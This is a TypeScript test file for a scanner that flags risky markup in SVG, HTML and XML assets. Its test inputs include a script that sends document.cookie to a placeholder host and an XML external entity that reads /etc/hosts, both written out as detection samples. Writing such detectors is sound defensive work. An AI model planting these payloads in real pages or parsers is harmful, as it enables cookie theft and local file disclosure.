import { expect, test } from "vitest";
import { analyseMarkup } from "../analyse/markdown/analyse-markup.ts";
import { type Fact, FactBook } from "../fact/fact.ts";
import type { Language } from "../file/file-kind.ts";
import { makeAct, makeProfile } from "../testing/make-fact.ts";
import type { SourceText } from "../text/source-text.ts";
import { BI2 } from "./markup.ts";

function judge(
  language: Language,
  text: string,
  more: Partial<SourceText> = {},
  facts: readonly Fact[] = [],
): string[] {
  const analysis = analyseMarkup({
    file: `assets/a.${language}`,
    text,
    language,
    firstLine: 1,
    keepsLines: true,
    chain: [],
    medium: "markup",
    stance: "live",
    section: [],
    isFixture: false,
    ...more,
  });
  const hits = BI2.find(new FactBook([...analysis.facts, ...facts]), makeProfile());
  return hits.map(({ severity, message }) => `${severity}: ${message}`);
}

test.each([
  ["svg", "<svg><script>go()</script></svg>", ["warn: The picture holds a script"]],
  ["svg", "<svg onload='go()'/>", ["warn: The picture runs code on an event"]],
  [
    "svg",
    "<svg><script>fetch('https://a.test/x')</script></svg>",
    ["warn: The picture holds a script", "critical: The picture has a script that contacts an address"],
  ],
  ["svg", "<svg><image href='https://a.test/x'/></svg>", ["warn: The picture loads content from elsewhere"]],
  [
    "html",
    "<script>fetch('https://a.test/?'+document.cookie)</script>",
    ["info: The page holds a script", "critical: The page sends cookies, storage or the page itself away"],
  ],
  [
    "html",
    "<script src='http://10.20.30.40.sslip.test/a.js'></script>",
    ["info: The page loads a script from elsewhere"],
  ],
  [
    "html",
    "<script src='https://203.0.113.9/a.js'></script>",
    ["warn: The page loads a script from elsewhere"],
  ],
  [
    "xml",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a/>',
    ["warn: The page makes its parser load a file or an address"],
  ],
] as const)("%s %j", (language, text, findings) => {
  expect(judge(language, text)).toEqual(findings);
});

test.each([
  ["svg", "<svg viewBox='0 0 1 1'><path d='M0 0'/><a href='https://a.test'><text>a</text></a></svg>"],
  ["html", "<button onclick='show()'>a</button><script>function show() { return 1; }</script>"],
  ["html", "<script src='https://cdn.jsdelivr.net/npm/chart.js'></script>"],
  ["html", "<script>localStorage.theme = 'dark'; fetch('/api/items')</script>"],
  ["html", "<script>fetch('https://a.test/data.json').then(show)</script>"],
] as const)("an ordinary %s changes nothing: %j", (language, text) => {
  expect(judge(language, text).filter((finding) => !finding.startsWith("info: "))).toEqual([]);
});

test("a picture whose script reaches the network, as the program analysis saw, is an attack", () => {
  const act = makeAct({ type: "send", url: "https://a.test/in", host: "a.test" }, { file: "assets/a.svg" });
  expect(judge("svg", "<svg><script>go()</script></svg>", {}, [act])).toEqual([
    "critical: The picture holds a script",
  ]);
});

test("markup that a document only shows acts nowhere", () => {
  expect(judge("svg", "<svg onload='go()'/>", { medium: "fence", file: "SKILL.md" })).toEqual([
    "info: The picture runs code on an event",
  ]);
});
